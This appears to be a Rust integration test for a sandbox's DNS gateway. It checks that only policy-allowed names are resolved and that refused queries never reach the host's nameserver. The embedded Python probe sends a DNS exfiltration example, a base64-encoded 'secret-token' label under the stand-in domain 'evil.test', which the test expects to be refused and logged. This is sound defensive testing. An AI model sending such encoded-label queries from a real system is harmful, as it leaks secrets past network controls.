//! The DNS gateway (issue 13, class 7): every port-53 destination of a sandbox with a
//! network policy reaches the sandbox's gateway, which answers only the policy's host
//! names and their CNAME chains, by asking the host's nameserver a query it rebuilds, and
//! refuses and logs the rest. The host's nameserver here is a recording one in this test
//! process, so the test sees every byte that would leave the machine.

use std::{
    fmt::Write as _,
    io::{Read as _, Write as _},
    net::{TcpListener, UdpSocket},
    process::{Command, Output, Stdio},
    sync::{Arc, Mutex},
    time::Duration,
};

use crate::support::{PYTHON, Scratch, nemoclaw, root_or_skip};

/// The recording nameserver's address (port 53); nothing else uses it.
const UPSTREAM_IP: &str = "127.0.0.155";
/// What it answers for the allowed name (behind a CNAME) and the chain's target.
const ALLOWED: &str = "api.nemoclaw.test";
const CNAME_TARGET: &str = "edge.cdn.test";
const ADDRESS: [u8; 4] = [127, 0, 0, 21];
/// An EDNS cookie option the probe sends: it must never reach the nameserver.
const COOKIE: &[u8] = b"\x00\x0a\x00\x08NCCOOKIE";

type Log = Arc<Mutex<Vec<Vec<u8>>>>;

fn encode_name(name: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out
}

/// (lower-cased name, qtype, end of the question section) of a query.
fn question(msg: &[u8]) -> Option<(String, u16, usize)> {
    let mut pos = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*msg.get(pos)?);
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(msg.get(pos + 1..pos + 1 + len)?).to_lowercase());
        pos += 1 + len;
    }
    let qtype = u16::from_be_bytes([*msg.get(pos + 1)?, *msg.get(pos + 2)?]);
    Some((labels.join("."), qtype, pos + 5))
}

/// The recording nameserver's answer: `ALLOWED` is a CNAME to `CNAME_TARGET`, which has
/// `ADDRESS`; AAAA queries get no records; every other name does not exist.
fn answer(query: &[u8]) -> Option<Vec<u8>> {
    let (name, qtype, end) = question(query)?;
    let record = |owner: &[u8], rtype: u16, data: &[u8]| {
        let mut r = owner.to_vec();
        r.extend_from_slice(&rtype.to_be_bytes());
        r.extend_from_slice(&[0, 1, 0, 0, 0, 60]);
        r.extend_from_slice(&(data.len() as u16).to_be_bytes());
        r.extend_from_slice(data);
        r
    };
    let target = encode_name(CNAME_TARGET);
    let mut answers = Vec::new();
    let known = name == ALLOWED || name == CNAME_TARGET;
    if name == ALLOWED {
        answers.push(record(&[0xc0, 12], 5, &target));
    }
    if known && qtype == 1 {
        answers.push(record(&target, 1, &ADDRESS));
    }
    let rcode = if known { 0 } else { 3 };
    let mut reply = vec![
        query[0],
        query[1],
        0x81,
        0x80 | rcode,
        0,
        1,
        0,
        answers.len() as u8,
        0,
        0,
        0,
        0,
    ];
    reply.extend_from_slice(&query[12..end]);
    for a in answers {
        reply.extend_from_slice(&a);
    }
    Some(reply)
}

/// Serves UDP and TCP on `UPSTREAM_IP:53`, recording every message received.
fn recording_nameserver() -> Log {
    let log: Log = Arc::default();
    let udp = UdpSocket::bind((UPSTREAM_IP, 53)).expect("bind the recording nameserver (udp)");
    let tcp = TcpListener::bind((UPSTREAM_IP, 53)).expect("bind the recording nameserver (tcp)");
    let udp_log = Arc::clone(&log);
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok((n, peer)) = udp.recv_from(&mut buf) {
            udp_log.lock().expect("log").push(buf[..n].to_vec());
            if let Some(reply) = answer(&buf[..n]) {
                let _ = udp.send_to(&reply, peer);
            }
        }
    });
    let tcp_log = Arc::clone(&log);
    std::thread::spawn(move || {
        for mut stream in tcp.incoming().map_while(Result::ok) {
            let mut len = [0u8; 2];
            while stream.read_exact(&mut len).is_ok() {
                let mut msg = vec![0u8; usize::from(u16::from_be_bytes(len))];
                if stream.read_exact(&mut msg).is_err() {
                    break;
                }
                tcp_log.lock().expect("log").push(msg.clone());
                let Some(reply) = answer(&msg) else { break };
                let framed = [&(reply.len() as u16).to_be_bytes()[..], &reply].concat();
                if stream.write_all(&framed).is_err() {
                    break;
                }
            }
        }
    });
    log
}

const PROBE: &str = r"
import socket, struct, errno, sys
COOKIE = bytes.fromhex(sys.argv[1])
def query(name, qtype=1, edns=True):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\x00'
    m = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 1 if edns else 0) + labels + struct.pack('>HH', qtype, 1)
    if edns:
        m += b'\x00' + struct.pack('>HHIH', 41, 1232, 0, len(COOKIE)) + COOKIE
    return m
def summary(r):
    qid, flags, qd, an = struct.unpack('>HHHH', r[:8])
    return 'id=%x rcode=%d an=%d' % (qid, flags & 0xf, an)
def err(e):
    return 'ERR ' + errno.errorcode.get(e.errno, str(e.errno))
def udp(server, name, qtype=1, family=socket.AF_INET, connected=False):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5)
    try:
        if connected:
            s.connect((server, 53)); s.send(query(name, qtype))
            r, src = s.recvfrom(4096)
            return '%s src=%s peer=%s' % (summary(r), src[0], s.getpeername()[0])
        s.sendto(query(name, qtype), (server, 53))
        r, src = s.recvfrom(4096)
        return '%s src=%s:%d' % (summary(r), src[0], src[1])
    except OSError as e:
        return err(e)
def tcp(server, name):
    try:
        s = socket.create_connection((server, 53), 5)
        m = query(name, 1, False)
        s.sendall(struct.pack('>H', len(m)) + m)
        n = struct.unpack('>H', s.recv(2))[0]
        r = b''
        while len(r) < n:
            r += s.recv(n - len(r))
        return '%s peer=%s' % (summary(r), s.getpeername()[0])
    except OSError as e:
        return err(e)
print('udp', udp('192.0.2.53', 'api.nemoclaw.test'))
print('mixed-case', udp('192.0.2.53', 'ApI.NeMoClAw.TeSt'))
print('connected', udp('198.51.100.53', 'api.nemoclaw.test', connected=True))
print('tcp', tcp('203.0.113.53', 'api.nemoclaw.test'))
print('ipv6', udp('2001:db8::53', 'api.nemoclaw.test', family=socket.AF_INET6))
print('cname-target', udp('192.0.2.53', 'edge.cdn.test'))
print('exfil', udp('192.0.2.53', 'c2VjcmV0LXRva2Vu.evil.test'))
print('subdomain', udp('192.0.2.53', 'x.api.nemoclaw.test'))
print('txt', udp('192.0.2.53', 'api.nemoclaw.test', 16))
if len(sys.argv) > 2:
    try:
        print('getaddrinfo', sorted({a[4][0] for a in socket.getaddrinfo('api.nemoclaw.test', 443, socket.AF_INET)}))
    except OSError as e:
        print('getaddrinfo', e)
";

/// Whether glibc here resolves through DNS (port 53) and not through systemd-resolved's
/// socket (`nss-resolve`), which the gateway does not see.
fn glibc_uses_port_53() -> bool {
    std::fs::read_to_string("/etc/nsswitch.conf").is_ok_and(|t| {
        t.lines()
            .any(|l| l.starts_with("hosts:") && l.contains(" dns") && !l.contains("resolve"))
    })
}

/// `nemoclaw run` of `python3 -c ARGS...` as nobody, under the scratch's `policy.yaml`,
/// with its `resolv.conf` and `audit.jsonl`.
fn run_python(scratch: &Scratch, args: &[String]) -> Output {
    Command::new(nemoclaw())
        .arg("run")
        .arg("--policy")
        .arg(scratch.path("policy.yaml"))
        .arg("--resolv-conf")
        .arg(scratch.path("resolv.conf"))
        .args(["--user", "nobody", "--audit-log"])
        .arg(scratch.path("audit.jsonl"))
        .args(["--", PYTHON, "-c"])
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .output()
        .expect("run nemoclaw")
}

/// DNS as an exfiltration channel: a query for a name outside the policy (data in a label,
/// a subdomain of an allowed name, a TXT query) is refused by the sandbox's gateway and
/// never reaches the host's nameserver; the policy's names are answered over UDP, TCP and
/// IPv6, whichever nameserver address the sandbox asks.
/// Peer: OpenShell #1169 (data in DNS labels reaches an attacker's nameserver despite a
/// denying network policy).
#[test]
fn dns_gateway_answers_only_policy_names_and_nothing_else_leaves() {
    if !root_or_skip("dns_gateway") {
        return;
    }
    let scratch = Scratch::new("dns-gateway");
    let upstream = recording_nameserver();
    std::fs::write(
        scratch.path("resolv.conf"),
        format!("nameserver {UPSTREAM_IP}\n"),
    )
    .expect("write resolv.conf");
    std::fs::write(
        scratch.path("policy.yaml"),
        format!("network:\n  allow:\n    - \"{ALLOWED}:443\"\n  deny: \"*\"\n"),
    )
    .expect("write policy");
    let cookie: String = COOKIE.iter().fold(String::new(), |mut s, b| {
        write!(s, "{b:02x}").expect("write to a String");
        s
    });
    let with_getaddrinfo = glibc_uses_port_53();
    let mut probe_args = vec![PROBE.to_owned(), cookie];
    if with_getaddrinfo {
        probe_args.push("getaddrinfo".to_owned());
    }
    let out = run_python(&scratch, &probe_args);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let mut expected = vec![
        "udp id=4242 rcode=0 an=2 src=192.0.2.53:53",
        "mixed-case id=4242 rcode=0 an=2 src=192.0.2.53:53",
        "connected id=4242 rcode=0 an=2 src=198.51.100.53 peer=198.51.100.53",
        "tcp id=4242 rcode=0 an=2 peer=203.0.113.53",
        "ipv6 id=4242 rcode=0 an=2 src=2001:db8::53:53",
        "cname-target id=4242 rcode=0 an=1 src=192.0.2.53:53",
        "exfil id=4242 rcode=5 an=0 src=192.0.2.53:53",
        "subdomain id=4242 rcode=5 an=0 src=192.0.2.53:53",
        "txt id=4242 rcode=5 an=0 src=192.0.2.53:53",
    ];
    if with_getaddrinfo {
        expected.push("getaddrinfo ['127.0.0.21']");
    }
    assert_eq!(stdout.lines().collect::<Vec<_>>(), expected, "{stderr}");

    // What reached the nameserver: the allowed names only, lower-case, never the
    // client's EDNS options, never a refused name.
    std::thread::sleep(Duration::from_millis(200));
    let seen = upstream.lock().expect("log").clone();
    assert!(seen.len() >= 6, "{} queries", seen.len());
    for msg in &seen {
        let (name, _, end) = question(msg).expect("a query");
        assert!(
            name == ALLOWED || name == CNAME_TARGET,
            "the nameserver was asked for {name:?}"
        );
        let raw = String::from_utf8_lossy(msg);
        assert!(!raw.contains("NeMoClAw"), "case reached the nameserver");
        assert!(
            !msg.windows(COOKIE.len()).any(|w| w == COOKIE),
            "the client's EDNS option reached the nameserver"
        );
        // Nothing after the question but, at most, an empty OPT record.
        let rest = &msg[end..];
        assert!(
            rest.is_empty() || (rest.len() == 11 && rest[..3] == [0, 0, 41] && rest[9..] == [0, 0]),
            "extra records sent upstream: {rest:?}"
        );
    }

    let audit = std::fs::read_to_string(scratch.path("audit.jsonl")).expect("audit log");
    let records: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let refused = |name: &str, qtype: &str| {
        records.iter().any(|r| {
            r["hook"] == "dns_gateway"
                && r["decision"] == "deny"
                && r["rcode"] == "REFUSED"
                && r["object"]["dns_name"] == name
                && r["object"]["dns_type"] == qtype
                && r["sandbox"].is_string()
        })
    };
    assert!(refused("c2vjcmv0lxrva2vu.evil.test", "A"), "{audit}");
    assert!(refused("x.api.nemoclaw.test", "A"), "{audit}");
    assert!(refused("api.nemoclaw.test", "TXT"), "{audit}");
    let gateway_records = records
        .iter()
        .filter(|r| r["hook"] == "dns_gateway")
        .count();
    assert_eq!(gateway_records, 3, "only the refusals are logged: {audit}");
    assert!(
        !records.iter().any(|r| r["object"]["port"] == 53),
        "no DNS destination was refused in the kernel: {audit}"
    );
}

/// The gateway takes port 53 only: a send to another port of an address no rule allows is
/// still refused in the kernel, while port 53 to that same address is answered by the
/// gateway (refused there: a policy without host names allows no name).
#[test]
fn dns_gateway_takes_port_53_only() {
    if !root_or_skip("dns_gateway_port_53_only") {
        return;
    }
    let scratch = Scratch::new("dns-gateway-53");
    std::fs::write(scratch.path("resolv.conf"), "nameserver 127.0.0.156\n").expect("resolv");
    std::fs::write(
        scratch.path("policy.yaml"),
        "network:\n  allow:\n    - \"10.9.9.9:443\"\n  deny: \"*\"\n",
    )
    .expect("write policy");
    let script = r"
import socket, errno
def send(port, family=socket.AF_INET, addr='192.0.2.1'):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
    q = b'\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04name\x04test\x00\x00\x01\x00\x01'
    try:
        s.sendto(q, (addr, port)); r = s.recv(512)
        return 'rcode=%d' % (r[3] & 0xf)
    except OSError as e:
        return 'ERR ' + errno.errorcode.get(e.errno, str(e.errno))
print(send(53), send(54), send(5353))
";
    let out = run_python(&scratch, &[script.to_owned()]);
    // No host names in the policy: the gateway refuses every name.
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "rcode=5 ERR EPERM ERR EPERM",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let audit = std::fs::read_to_string(scratch.path("audit.jsonl")).expect("audit log");
    assert!(audit.contains("\"dns_name\":\"name.test\""), "{audit}");
    assert!(audit.contains("\"port\":54"), "{audit}");
}
